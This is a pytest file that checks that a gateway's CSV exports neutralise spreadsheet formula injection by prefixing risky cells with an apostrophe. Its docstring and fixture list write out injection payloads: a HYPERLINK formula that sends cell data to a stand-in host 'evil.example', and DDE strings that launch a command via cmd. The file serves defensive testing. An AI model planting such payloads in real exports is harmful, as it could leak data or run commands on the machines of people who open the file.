"""CSV exports: a cell a spreadsheet would run as a formula is written as text.

A data centre names its records and tenants, a city its programs; an analyst
opens the national export in a spreadsheet. A value such as
``=HYPERLINK("https://evil.example/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
must reach that spreadsheet as text (OWASP: a leading ``'``), while numbers,
negative ones included, stay numbers and ordinary text stays as it was.
"""

from __future__ import annotations

import csv
import io

import pytest

from gateway.listing import FORMULA_STARTS, csv_response

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _dead_letters(client, rpc, token_for, letters: list[dict]):
    rpc.replies[("metering", "list_dead_letters")] = lambda **kw: letters
    rpc.replies[("city_registry", "list_city_refusals")] = lambda **kw: {
        "items": [],
        "total": 0,
    }
    return client.get(
        "/api/v1/dead-letters?format=csv", headers=token_for("national_admin")
    )


def test_every_formula_start_is_tried():
    assert {formula[0] for formula in FORMULAS} == set(FORMULA_STARTS)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_formula_cell_is_neutralised(client, rpc, token_for, formula):
    """A data centre's record id and detail reach the national export as text."""
    letter = {"id": 7, "record_id": formula, "reason": "schema", "detail": formula}

    (row,) = _rows(_dead_letters(client, rpc, token_for, [letter]))

    assert row["record_id"] == "'" + formula
    assert row["detail"] == "'" + formula


def test_plain_cells_are_unchanged(client, rpc, token_for):
    letter = {
        "id": 7,
        "datacenter_id": "dc-1",
        "record_id": "r-1=2",  # "=" inside a value is no formula
        "reason": "unknown_voucher",
        "detail": {"voucher_code": "SH-XXXX"},
        "received_at": "2025-03-01T08:00:00Z",
    }

    (row,) = _rows(_dead_letters(client, rpc, token_for, [letter]))

    assert row == {
        "id": "7",
        "source": "metering",
        "datacenter_id": "dc-1",
        "record_id": "r-1=2",
        "voucher_code": "",
        "routing_key": "",
        "reason": "unknown_voucher",
        "detail": '{"voucher_code":"SH-XXXX"}',
        "received_at": "2025-03-01T08:00:00Z",
        "replayed_at": "",
        "replay_outcome": "",
        "replay_reason": "",
        "replay_url": "/api/v1/dead-letters/7/replay",
    }


@pytest.mark.parametrize("formula", FORMULAS[:2], ids=repr)
def test_formula_in_a_public_table_is_neutralised(client, rpc, formula):
    """The anonymous table exports (cities, data centres) go the same way."""
    rpc.replies[("city_registry", "list_cities")] = [
        {"code": "nb", "name": formula, "region": "east", "programs": []}
    ]

    (row,) = _rows(client.get("/api/v1/cities?format=csv"))

    assert row["name"] == "'" + formula and row["code"] == "nb"


def test_numbers_stay_numbers(app):
    """Only text is neutralised: a negative amount is a number in the sheet."""
    rows = [{"amount_fen": -500, "share": -0.25, "text": "-500", "none": None}]

    with app.test_request_context():
        response = csv_response(rows, ["amount_fen", "share", "text", "none"], "x")

    lines = response.get_data(as_text=True).splitlines()
    assert lines == ["amount_fen,share,text,none", "-500,-0.25,'-500,"]
